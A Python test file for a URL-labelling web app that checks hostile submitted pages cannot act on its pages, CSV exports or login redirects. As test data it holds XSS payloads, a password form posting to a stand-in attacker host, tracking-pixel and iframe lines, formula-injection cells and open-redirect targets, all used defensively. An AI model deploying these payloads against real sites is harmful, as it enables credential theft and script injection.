"""What a page that was handed in brings with it acts nowhere: not at the judge's, the player's, the modeler's, nor in any file."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import random

import pytest

from btm.pages.clean import one_line
from btm.services.export_corpus import export_corpus
from btm.services.export_urls import export_urls
from btm.services.mark_gold import mark_gold
from btm.services.place_find import place_find
from btm.services.row_files import FORMULA, cell
from btm.services.show_statement import write_statement

from ..pages.hostile import SENTENCE, HostileServer, Wire, answer, page
from ..pages.support import covers
from ..support.game import SURE, Game
from ..support.rejudging import modeler
from .conftest import browser_of
from .inert import watch

ATTACKER = "attacker.example"
SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
EVIL = f"""<base href="https://{ATTACKER}/"><meta http-equiv="refresh" content="0;url=https://{ATTACKER}/">
{SCRIPT}<svg onload="alert(2)"><script>alert(3)</script></svg><img src="https://{ATTACKER}/pixel.gif" onerror="alert(4)">
<iframe src="https://{ATTACKER}/"></iframe><object data="https://{ATTACKER}/"></object>
<form action="https://{ATTACKER}/login"><input name="password" type="password"><button formaction="//{ATTACKER}">Log in</button></form>
<p style="background:url(https://{ATTACKER}/)" onclick="alert(5)">{{words}} {ESCAPED} \u202egnp.exe\u202c
<a href="javascript:alert(6)">here</a> &lt;img src=x onerror=alert(7)&gt;</p>"""
QUERY = '?q=<script>alert(1)</script>&next="onload=alert(2)&r=\u202egnp.exe'


def hostile(
    server: HostileServer, path: str, title: str = f"{ESCAPED} &quot; onload=alert(8) \u202emoc.elgoog"
) -> str:
    words = " ".join(random.Random(path).sample([f"word{n}" for n in range(900)], 60))
    body = page(EVIL.format(words=f"{SENTENCE} {words}"), title=title)
    return server.on(path, answer(body))


def known(game: Game, url: str) -> str:
    """The machine is sure about whatever this address leads to."""
    for each in (url, url.partition("?")[0]):
        game.machine.believe(each, (1 - SURE, SURE))
    return url


@covers("xss-script", "xss-handler", "xss-title", "img-beacon", "form-phish", "bidi", "link-out")
@pytest.mark.parametrize("harmful", [False, True])
def test_nothing_of_a_hostile_page_acts_on_any_page_of_ours(
    live: Game, server: HostileServer, harmful: bool
) -> None:
    live.challenge(harmful=harmful)
    player, judge, asker = live.player(), live.judge(), modeler(live)
    found = live.settled("spam", player, known(live, hostile(server, "/found") + QUERY))
    split = live.committed(player, known(live, hostile(server, "/split") + QUERY))
    for label in ("spam", "ham", "spam", "ham", "spam", "ham", "cannot:unsure"):
        if live.item(split).state == "open":
            live.judge_says(split, label, reason=SCRIPT)
    waiting = live.committed(player, known(live, hostile(server, "/waiting") + QUERY))
    mark_gold(
        "spam",
        live.item(found).public_id,
        truth=None,
        why=SCRIPT,
        asker_id=None,
        now=live.clock(),
        new_id="gold",
    )
    place_find(live.row(found).id, now=live.clock())
    visits = {
        player: (f"/s/{found}", f"/s/{split}", f"/s/{waiting}", f"/s/{waiting}/card", "/me/submissions", "/me", "/c/spam"),
        judge: ("/c/spam/judge", "/c/spam/found", f"/s/{found}", "/leaderboard"),
        asker: (
            "/console", "/console/c/spam/desk", "/console/c/spam/gold", "/console/c/spam/corpus", "/console/c/spam/map",
            "/console/c/spam/judges", "/console/c/spam/takedowns", "/c/spam/found",
        ),
    }  # fmt: skip
    shown = ""
    for account, paths in visits.items():
        browser = browser_of(live, account)
        for path in paths:
            got = browser.get(path)
            assert got.status_code == 200, path
            assert "default-src 'none'" in got.headers["Content-Security-Policy"]
            assert got.headers["X-Content-Type-Options"] == "nosniff"
            watcher = watch(got.text)
            assert ATTACKER not in got.text, path
            if account == judge:
                assert harmful is False or watcher.links == [], "a judge is not led to a harmful page"
            shown += got.text
    assert ESCAPED in shown  # what was text is shown as text
    assert "moc.elgoog" in shown
    assert SENTENCE in shown


@covers("xss-error")
def test_markup_in_what_went_wrong_is_no_markup(live: Game, server: HostileServer) -> None:
    live.challenge()
    player = live.player()
    refused = live.submitted(
        player, server.on("/error", f"HTTP/1.1 500 {SCRIPT}\r\nX: {SCRIPT}\r\n\r\n{SCRIPT}".encode())
    )
    browser = browser_of(live, player)
    assert live.row(refused).state == "refused"
    for path in (f"/s/{refused}", "/me/submissions", f"/nowhere/{SCRIPT}", f"/s/{SCRIPT}"):
        watch(browser.get(path).text)
    answered = browser.post("/c/spam/submissions", data={"url": f"javascript:{SCRIPT}"})
    assert answered.status_code == 422
    watch(answered.text)


@covers("snapshot-type")
def test_raw_bytes_leave_as_an_attachment_that_nobody_renders_and_on_no_page(
    live: Game, server: HostileServer
) -> None:
    live.challenge()
    public_id = live.settled("spam", url=known(live, hostile(server, "/page")))
    key = live.row(public_id).page.snapshot  # type: ignore[union-attr]
    assert b"<script>" in live.snapshots.get(key)
    live.app.extensions["btm_snapshots"] = live.snapshots
    archive = browser_of(live, modeler(live)).get("/c/spam/corpus.warc.gz")
    assert archive.status_code == 200
    assert archive.get_data()[:2] == b"\x1f\x8b"
    assert archive.headers["Content-Disposition"].startswith("attachment")
    assert archive.headers["X-Content-Type-Options"] == "nosniff"
    assert archive.mimetype == "application/warc"
    routes = [rule.rule for rule in live.app.url_map.iter_rules()]
    assert [route for route in routes if "snapshot" in route or "/raw" in route] == []


@pytest.mark.parametrize("start", ["=HYPERLINK(1)", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1"])
def test_no_cell_begins_as_a_formula_does(start: str) -> None:
    assert str(cell(start)).startswith("'")


@covers("csv-formula")
def test_no_file_that_a_spreadsheet_opens_holds_a_formula(live: Game, server: HostileServer) -> None:
    live.challenge()
    player = live.player("=cmd")
    for number, title in enumerate(('=HYPERLINK("https://attacker.example")', "+1+1", "-2+3", "@SUM(A1)")):
        public_id = live.committed(player, known(live, hostile(server, f"/{number}", title)))
        for label in ("spam", "spam"):
            live.judge_says(public_id, label, reason="=1+1")
    now = live.clock()
    files = {
        "corpus": export_corpus("spam", "csv", asker_id=None, now=now),
        "crowd": export_corpus("spam", "crowd-kit", asker_id=None, now=now),
        "urls": export_urls("spam", "csv", asker_id=None, now=now),
        "statement": write_statement(player),
    }
    for name, chunks in files.items():
        text = b"".join(chunks).decode()
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 4, name
        for row in rows:
            for value in row:
                assert not value.startswith(FORMULA) or value.lstrip("-").replace(".", "").isdigit(), (
                    name,
                    value,
                )
    assert b"'=HYPERLINK" in b"".join(export_urls("spam", "csv", asker_id=None, now=now))


def test_a_huge_title_is_cut_and_what_names_a_file_is_ours_alone(live: Game, server: HostileServer) -> None:
    live.challenge()
    public_id = live.settled("spam", url=known(live, hostile(server, "/huge", "T" * 200_000)))
    assert len(live.row(public_id).page.title) <= 1000  # type: ignore[union-attr]
    assert one_line("a\r\nb\u202ec\x00", 100) == "a bc"
    named = browser_of(live, modeler(live)).get("/console/c/spam/examples/urls.csv")
    assert b"TTTT" in named.get_data()
    assert named.headers["Content-Disposition"] == "attachment; filename=spam-all-urls.csv"


@pytest.mark.parametrize(
    "target",
    [
        "//attacker.example",
        "https://attacker.example",
        "/\\attacker.example",
        "/\t/attacker.example",
        "javascript:alert(1)",
    ],
)
def test_going_on_after_logging_in_never_leaves_the_site(live: Game, target: str) -> None:
    live.player("ada", "correct horse battery")
    form = {"handle": "ada", "password": "correct horse battery", "next": target}
    answered = live.app.test_client().post("/login", data=form)
    assert (answered.status_code, answered.headers["Location"]) == (303, "/")


def test_hostile_names_are_shown_as_text(live: Game) -> None:
    answered = live.app.test_client().post(
        "/register", data={"handle": SCRIPT, "password": "correct horse battery", "agreed": "y"}
    )
    assert answered.status_code in (200, 422)
    watch(answered.text)


@covers("cloak")
def test_judges_are_shown_what_was_fetched_whatever_the_server_says_later(
    live: Game, server: HostileServer
) -> None:
    first, later = page(f"<p>{SENTENCE} {'nice ' * 40}</p>"), page(f"<p>{'Quite another text. ' * 20}</p>")
    calls: list[Wire] = []

    def cloak(wire: Wire) -> None:
        calls.append(wire)
        wire.send(answer(first if len(calls) == 1 else later))

    live.challenge()
    public_id = live.committed(url=known(live, server.on("/cloak", cloak)))
    stored = live.row(public_id).page
    assert stored is not None
    assert hashlib.sha256(live.snapshots.get(stored.snapshot)).hexdigest() == stored.snapshot
    shown = browser_of(live, live.judge()).get("/c/spam/judge").text
    assert SENTENCE in shown
    assert "Quite another text" not in shown
    assert len(calls) == 1
    assert json.dumps(stored.blocks).count("Quite another") == 0
